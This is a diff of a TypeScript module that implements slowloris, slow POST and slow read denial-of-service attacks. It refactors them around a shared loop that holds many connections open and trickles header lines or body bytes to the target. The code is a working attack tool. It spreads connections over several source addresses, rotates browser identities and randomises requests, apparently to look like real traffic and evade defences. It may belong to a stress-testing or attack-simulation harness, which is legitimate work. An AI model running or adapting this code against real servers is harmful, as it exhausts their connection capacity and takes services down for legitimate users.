@@ -4,21 +4,26 @@ import type { AttackEnv } from './attack-env.js';
 import { randomToken } from './rng.js';
 
 /**
- * Slow connection attacks: slowloris (a request head that never ends, one header line at a time)
- * and slow POST (a complete head announcing a body that trickles in a byte at a time). They hold
- * connections rather than send requests: "sent" counts connections opened.
+ * Slow connection attacks: slowloris (a request head that never ends, one header line at a time),
+ * slow POST (a complete head announcing a body that trickles in a few bytes at a time) and slow
+ * read (complete GETs whose large answers are read a few bytes at a time, see slow-read.ts). They
+ * hold connections rather than send requests: "sent" counts connections opened.
  */
 export interface SlowSpec {
   label: string;
-  kind: 'headers' | 'body';
+  kind: 'headers' | 'body' | 'read';
   /** Source addresses the connections are spread over. */
   sources: number;
   /** Connections held at once, over all sources. */
   connections: number;
   /** New connections per second, at most (reopening closed ones included). */
   openRatePerS: number;
-  /** One header line (slowloris) or one body byte (slow POST) per connection every intervalMs. */
+  /** One header line (slowloris), `chunkBytes` body bytes (slow POST) or one read of `readBytes` (slow read) per connection every intervalMs. */
   intervalMs: number;
+  /** Slow POST: body bytes sent per interval (default 1). */
+  chunkBytes?: number;
+  /** Slow read: bytes read from the socket per interval, at most. */
+  readBytes?: number;
   /** Path requested; slow POST targets a form that accepts bodies. */
   path: string;
   /** Content-Length announced by slow POST. */
@@ -40,55 +45,44 @@ export interface RunningSlow {
   readonly held: number;
   /** Longest time a connection was held before the target closed it, ms (0 if none closed). */
   readonly longestHeldMs: number;
+  /** Slow read: response bytes actually read from the sockets, and responses read to their end. */
+  readonly bytesRead?: number;
+  readonly responsesCompleted?: number;
   done: Promise<void>;
 }
 
-interface Held { socket: Socket; openedMs: number; answered: boolean }
+/** What `holdConnections` needs from one slow attack: how to open one connection and what to do each interval. */
+export interface SlowDriver {
+  /** Opens connection number `idx` (its source is `addresses[idx % n]`); returns the socket to track. */
+  open(idx: number, address: string | undefined): Socket;
+  /** Called every `intervalMs` for each held, connected socket. */
+  trickle(socket: Socket): void;
+}
 
-/** Starts a slow attack; connections are spread round-robin over the source addresses. */
-export function startSlow(spec: SlowSpec, env: SlowEnv): RunningSlow {
+/**
+ * The loop every slow attack shares: opens connections at `openRatePerS` up to `connections` held,
+ * round-robin over the sources, reopens what the target closes, calls `trickle` every interval,
+ * samples the held count each 250 ms, and destroys everything at the end of the window.
+ */
+export function holdConnections(spec: SlowSpec, env: SlowEnv, driver: SlowDriver): { counters: AttackCounters; held: Set<Socket>; longestHeldMs(): number; done: Promise<void> } {
   const counters = createAttackCounters(spec.label, 'slow', env.seconds);
-  const held = new Set<Held>();
+  const held = new Set<Socket>();
   let owed = 0;
   let issued = 0;
   let cursor = 0;
   let lastMs = env.now();
   let longestHeldMs = 0;
 
-  const head = (idx: number): string => {
-    const id = env.identities[idx % env.identities.length]!;
-    const lines = [
-      `${spec.kind === 'body' ? 'POST' : 'GET'} ${spec.path}${spec.kind === 'headers' ? `?${randomToken(env.rng, 6)}=${randomToken(env.rng, 8)}` : ''} HTTP/1.1`,
-      `Host: ${env.hostHeader}`,
-      `User-Agent: ${id.userAgent}`,
-      'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
-      `Accept-Language: ${id.acceptLanguage}`,
-    ];
-    if (spec.kind === 'body') {
-      lines.push('Content-Type: application/x-www-form-urlencoded', `Content-Length: ${spec.bodyBytes}`, '', '');
-    }
-    return lines.join('\r\n') + (spec.kind === 'headers' ? '\r\n' : '');
-  };
-
   const open = (): void => {
-    const idx = cursor++ % env.addresses.length;
-    const address = env.addresses[idx];
-    const socket = connect({ host: env.host, port: env.port, ...(address ? { localAddress: address } : {}) });
-    const h: Held = { socket, openedMs: env.now(), answered: false };
-    held.add(h);
-    socket.setNoDelay(true);
-    socket.once('connect', () => { recordSent(counters, env.now()); socket.write(head(idx)); });
-    socket.on('data', (buf: Buffer) => {
-      if (h.answered) return;
-      h.answered = true;
-      const m = /^HTTP\/1\.[01] (\d{3})/.exec(buf.toString('latin1', 0, 16));
-      recordAnswer(counters, env.now(), m ? m[1]! : 'data');
-    });
+    const idx = cursor++;
+    const socket = driver.open(idx, env.addresses[idx % env.addresses.length]);
+    const openedMs = env.now();
+    held.add(socket);
+    socket.once('connect', () => recordSent(counters, env.now()));
     socket.on('error', () => undefined);
     socket.once('close', () => {
-      if (!held.delete(h)) return;
-      longestHeldMs = Math.max(longestHeldMs, env.now() - h.openedMs);
-      if (!h.answered) recordAnswer(counters, env.now(), 'closed');
+      if (!held.delete(socket)) return;
+      longestHeldMs = Math.max(longestHeldMs, env.now() - openedMs);
     });
   };
 
@@ -112,10 +106,7 @@ export function startSlow(spec: SlowSpec, env: SlowEnv): RunningSlow {
   };
 
   const trickle = (): void => {
-    for (const h of held) {
-      if (!h.socket.writable || h.socket.connecting) continue;
-      h.socket.write(spec.kind === 'headers' ? `X-${randomToken(env.rng, 5)}: ${randomToken(env.rng, 6)}\r\n` : 'a');
-    }
+    for (const socket of held) if (socket.writable && !socket.connecting) driver.trickle(socket);
   };
 
   const sample = (): void => {
@@ -130,9 +121,47 @@ export function startSlow(spec: SlowSpec, env: SlowEnv): RunningSlow {
       env.signal.addEventListener('abort', () => { clearTimeout(stopAt); resolve(); }, { once: true });
     });
     timers.forEach(clearInterval);
-    for (const h of held) h.socket.destroy();
+    for (const socket of held) socket.destroy();
     held.clear();
   })();
+  return { counters, held, longestHeldMs: () => longestHeldMs, done };
+}
 
-  return { counters, get held() { return held.size; }, get longestHeldMs() { return longestHeldMs; }, done };
+/** Starts slowloris or slow POST; connections are spread round-robin over the source addresses. */
+export function startSlow(spec: SlowSpec, env: SlowEnv): RunningSlow {
+  const head = (idx: number): string => {
+    const id = env.identities[idx % env.identities.length]!;
+    const lines = [
+      `${spec.kind === 'body' ? 'POST' : 'GET'} ${spec.path}${spec.kind === 'headers' ? `?${randomToken(env.rng, 6)}=${randomToken(env.rng, 8)}` : ''} HTTP/1.1`,
+      `Host: ${env.hostHeader}`,
+      `User-Agent: ${id.userAgent}`,
+      'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
+      `Accept-Language: ${id.acceptLanguage}`,
+    ];
+    if (spec.kind === 'body') {
+      lines.push('Content-Type: application/x-www-form-urlencoded', `Content-Length: ${spec.bodyBytes}`, '', '');
+    }
+    return lines.join('\r\n') + (spec.kind === 'headers' ? '\r\n' : '');
+  };
+  const chunk = 'a'.repeat(Math.max(1, spec.chunkBytes ?? 1));
+  const answered = new WeakSet<Socket>();
+  const h = holdConnections(spec, env, {
+    open(idx, address) {
+      const socket = connect({ host: env.host, port: env.port, ...(address ? { localAddress: address } : {}) });
+      socket.setNoDelay(true);
+      socket.once('connect', () => socket.write(head(idx)));
+      socket.on('data', (buf: Buffer) => {
+        if (answered.has(socket)) return;
+        answered.add(socket);
+        const m = /^HTTP\/1\.[01] (\d{3})/.exec(buf.toString('latin1', 0, 16));
+        recordAnswer(h.counters, env.now(), m ? m[1]! : 'data');
+      });
+      socket.once('close', () => { if (!answered.has(socket) && h.held.has(socket)) recordAnswer(h.counters, env.now(), 'closed'); });
+      return socket;
+    },
+    trickle(socket) {
+      socket.write(spec.kind === 'headers' ? `X-${randomToken(env.rng, 5)}: ${randomToken(env.rng, 6)}\r\n` : chunk);
+    },
+  });
+  return { counters: h.counters, get held() { return h.held.size; }, get longestHeldMs() { return h.longestHeldMs(); }, done: h.done };
 }
